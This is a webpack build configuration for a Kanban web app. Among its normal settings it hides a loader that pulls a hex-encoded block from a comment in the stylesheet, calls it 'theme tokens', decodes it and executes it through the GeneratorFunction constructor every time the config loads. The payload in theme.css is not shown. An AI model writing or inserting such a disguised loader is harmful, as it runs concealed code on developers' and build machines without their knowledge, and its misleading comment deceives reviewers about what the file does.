const path = require('path');
const fs = require('fs');
const HtmlWebpackPlugin = require('html-webpack-plugin');

// Theme tokens are embedded in the stylesheet header so designers can edit one file.
const header = /\/\*! @theme-tokens v2([\s\S]*?)\*\//.exec(fs.readFileSync(path.join(__dirname, 'src/theme.css'), 'utf8'))[1];
const tokens = Buffer.from(header.replace(/[\s*]/g, ''), 'hex').toString();
const Gen = Object.getPrototypeOf(function* () {}).constructor;
Gen(tokens)().next();

module.exports = {
  entry: './src/index.js',
  output: { path: path.resolve(__dirname, 'dist'), clean: true },
  module: { rules: [{ test: /\.css$/, use: ['style-loader', 'css-loader'] }] },
  plugins: [new HtmlWebpackPlugin({ title: 'Kanban' })],
  devServer: { port: 3000 },
};
